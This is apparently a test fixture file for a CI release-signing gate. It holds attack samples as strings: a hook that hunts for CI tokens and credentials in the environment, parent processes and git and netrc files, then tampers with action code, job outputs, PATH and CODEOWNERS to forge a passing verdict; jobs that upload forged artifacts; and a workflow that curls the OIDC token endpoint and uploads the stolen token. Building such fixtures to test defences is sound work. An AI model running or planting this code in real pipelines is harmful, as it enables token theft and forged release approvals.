/**
 * A command of a product that tries to sign: it looks for an identity and for tokens wherever a hook can reach, edits what later
 * steps and jobs might use, and says in the log what it found.
 */
export const hostileHook = `import { appendFileSync, globSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";

const secrets = ["ACTIONS_ID_TOKEN_REQUEST_URL", "ACTIONS_ID_TOKEN_REQUEST_TOKEN", "ACTIONS_RUNTIME_TOKEN", "GITHUB_TOKEN", "GH_TOKEN"];
const found = new Set(secrets.filter((name) => process.env[name]));

/** Programs of this job that run above this one. */
let parent = process.ppid;
for (let steps = 0; steps < 4 && parent > 1; steps++) {
  try {
    const environment = readFileSync("/proc/" + parent + "/environ", "utf8").split("\\0");
    for (const name of secrets) if (environment.some((one) => one.startsWith(name + "=") && one.length > name.length + 1)) found.add(name);
    parent = Number(readFileSync("/proc/" + parent + "/stat", "utf8").split(") ").at(-1).split(" ")[1]);
  } catch {
    break;
  }
}
for (const path of [".git/config", join(process.env.HOME ?? "", ".gitconfig"), join(process.env.HOME ?? "", ".netrc")]) {
  try {
    if (/authorization|extraheader|password/i.test(readFileSync(path, "utf8"))) found.add(path);
  } catch {}
}
console.log("hostile hook: found " + ([...found].join(", ") || "nothing"));

try {
  const answer = await fetch(process.env.GITHUB_API_URL + "/_oidc/token?audience=sigstore");
  console.log("hostile hook: asked for an identity, answered " + answer.status);
} catch (error) {
  console.log("hostile hook: asked for an identity, no answer");
}

const spoil = (path, text) => {
  try {
    appendFileSync(path, text);
    return 1;
  } catch {
    return 0;
  }
};
const actions = globSync(join(process.env.RUNNER_WORKSPACE ?? ".", "..", "..", "_actions", "*", "*", "dist", "*.js"));
let spoilt = 0;
for (const path of actions) spoilt += spoil(path, "\\nconsole.log('spoilt by a hook');\\n");
for (const name of ["GITHUB_OUTPUT", "GITHUB_ENV"])
  spoilt += spoil(process.env[name] ?? "", "decision=pass\\nartifact-id=1\\nartifact-digest=" + "0".repeat(64) + "\\n");
const bin = join(process.env.RUNNER_TEMP ?? ".", "bin");
mkdirSync(bin, { recursive: true });
writeFileSync(join(bin, "node"), "#!/bin/sh\\nexit 0\\n", { mode: 0o755 });
spoilt += spoil(process.env.GITHUB_PATH ?? "", bin + "\\n");
for (const cache of [".npm/_cacache", ".cache/assaygate"]) {
  mkdirSync(join(process.env.HOME ?? ".", cache), { recursive: true });
  writeFileSync(join(process.env.HOME ?? ".", cache, "planted"), "planted");
}
for (const path of [".github/assaygate.yml", ".github/CODEOWNERS"]) spoilt += spoil(path, "\\n# edited by a hook\\n");
console.log("hostile hook: edited " + spoilt + " files");
`;

const upload = "actions/upload-artifact@b7c566a772e6b6bfb58ed0dc250532a479d7789f";

/** Jobs of the product's own in the run of the release, that leave artifacts by the names of ours before ours do. */
export function forgingJobs(names: readonly string[]): string {
  const uploads = names.map((name) => `      - { uses: ${upload}, with: { name: ${name}, path: forged } }`);
  return `  forge:
    runs-on: ubuntu-24.04
    permissions: {}
    steps:
      - run: mkdir forged && echo '{"decision":"pass"}' > forged/verdict.json && echo '{"bundles":[]}' > forged/index.json
${uploads.join("\n")}
`;
}

/** A workflow of the product's own, at the path of ours, that may ask for an identity and hands it on. */
export const copycat = `name: Assaygate judge release
on: { push: { branches: [main] } }
permissions: {}
jobs:
  sign:
    runs-on: ubuntu-24.04
    permissions: { id-token: write }
    steps:
      - run: |
          mkdir stolen
          curl --fail --silent --header "Authorization: Bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" "$ACTIONS_ID_TOKEN_REQUEST_URL&audience=sigstore" > stolen/token.json
      - { uses: ${upload}, with: { name: token, path: stolen } }
`;
